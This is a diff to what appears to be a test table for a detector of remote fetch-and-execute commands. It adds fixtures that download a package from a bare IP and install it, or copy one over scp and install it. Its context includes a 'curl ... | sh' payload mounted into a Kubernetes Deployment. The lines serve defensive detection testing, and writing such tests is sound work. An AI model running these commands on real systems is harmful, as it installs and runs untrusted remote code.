@@ -242,8 +242,15 @@ indicatorTable(commandRemoteFetchExecute, {
     'a ConfigMap of files that the command wrote': script(
       'echo \'curl http://203.0.113.7/a | sh\' > /tmp/run.sh\nkubectl create configmap s --from-file=/tmp/run.sh\nkubectl apply -f - <<E\napiVersion: apps/v1\nkind: Deployment\nmetadata: {name: a}\nspec:\n  template:\n    spec:\n      containers:\n      - {name: a, image: "busybox:1.36", command: [sh, /s/run.sh], volumeMounts: [{name: s, mountPath: /s}]}\n      volumes: [{name: s, configMap: {name: s}}]\nE',
     ),
+    'a package of a bare address, from a file': script(
+      'curl -so /tmp/a.deb http://203.0.113.7/a.deb; dpkg -i /tmp/a.deb',
+    ),
+    'a package that comes over ssh from one': script('scp a@203.0.113.7:a.rpm /tmp/a.rpm; rpm -i /tmp/a.rpm'),
   },
   staysSilent: {
+    'a package of somebody with a name, from a file': script(
+      'curl -fsSLO https://packages.example.com/agent_1.2_amd64.deb && dpkg -i agent_1.2_amd64.deb',
+    ),
     'data in an archive, and a program of the image': script(
       'curl -s http://203.0.113.7/zones.tgz | tar xz -C /usr/share/zoneinfo; /usr/bin/app --check; /bin/date',
     ),
